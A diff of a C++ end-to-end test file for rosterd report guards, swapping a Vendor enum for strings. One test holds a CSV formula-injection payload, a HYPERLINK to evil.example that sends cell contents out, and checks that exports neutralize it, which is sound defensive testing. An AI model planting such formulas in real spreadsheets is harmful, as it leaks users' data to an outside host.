@@ -15,7 +15,6 @@ namespace rosterd::testing {
 namespace {
 
 using sim::SimUser;
-using sim::Vendor;
 
 class ReportGuardsE2e : public E2eTest {
  protected:
@@ -36,8 +35,8 @@ class ReportGuardsE2e : public E2eTest {
 };
 
 TEST_F(ReportGuardsE2e, UsersAsOfBeforeTheFirstSyncSaysSoAndFails) {
-  auto& sw = add_tenant("sw", Vendor::class4, 5, 3);
-  auto& projects = add_tenant("projects", Vendor::worksection, 4, 4);
+  auto& sw = add_tenant("sw", "class4", 5, 3);
+  auto& projects = add_tenant("projects", "worksection", 4, 4);
   write_config({{sw}});
   synced();
   const auto between = now_timestamp();  // after sw's first run, before projects' first
@@ -77,7 +76,7 @@ TEST_F(ReportGuardsE2e, UsersAsOfBeforeTheFirstSyncSaysSoAndFails) {
 }
 
 TEST_F(ReportGuardsE2e, ChangesWithAnUntilNotAfterItsSinceIsAUsageError) {
-  auto& sw = add_tenant("sw", Vendor::class4, 3, 5);
+  auto& sw = add_tenant("sw", "class4", 3, 5);
   write_config({{sw}});
   synced();
 
@@ -105,7 +104,7 @@ TEST_F(ReportGuardsE2e, ChangesWithAnUntilNotAfterItsSinceIsAUsageError) {
 }
 
 TEST_F(ReportGuardsE2e, CsvCellsThatASpreadsheetWouldRunAreNeutralized) {
-  auto& sw = add_tenant("sw", Vendor::class4, 8, 6);
+  auto& sw = add_tenant("sw", "class4", 8, 6);
   write_config({{sw}});
   const auto listed = sw.users();
   const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
@@ -120,7 +119,7 @@ TEST_F(ReportGuardsE2e, CsvCellsThatASpreadsheetWouldRunAreNeutralized) {
   sw.update_user(listed[2].id, [&](SimUser& u) { u.email = minus; });
   sw.update_user(listed[3].id, [&](SimUser& u) { u.role = at; });
   synced();
-  // Vendor text is trimmed when stored, so a leading tab or CR can only be a stored value
+  // std::string text is trimmed when stored, so a leading tab or CR can only be a stored value
   // of another origin (an older rosterd, an edit): put them there.
   {
     SQLite::Database db(db_path(), SQLite::OPEN_READWRITE);
